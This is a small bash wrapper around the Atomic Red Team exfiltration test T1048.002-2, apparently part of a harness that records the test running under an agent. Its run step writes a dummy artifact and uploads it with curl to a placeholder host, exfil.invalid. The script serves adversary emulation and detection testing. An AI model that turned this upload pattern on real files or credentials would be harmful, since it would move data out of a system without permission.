#!/usr/bin/env bash
# Atomic Red Team T1048.002-2: Exfiltrate data HTTPS using curl freebsd,linux or macos
# atomic GUID 4a4f31e2-46ea-4c26-ad89-f09ad1d5fe01; technique T1048.002
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    echo "atomic artifact" > "$W/artifact"
    curl -F "file=@$W/artifact" -F 'maxDownloads=1' -F 'autoDelete=true' -m 3 https://exfil.invalid/
}
cleanup() {
    :
}
"$1"
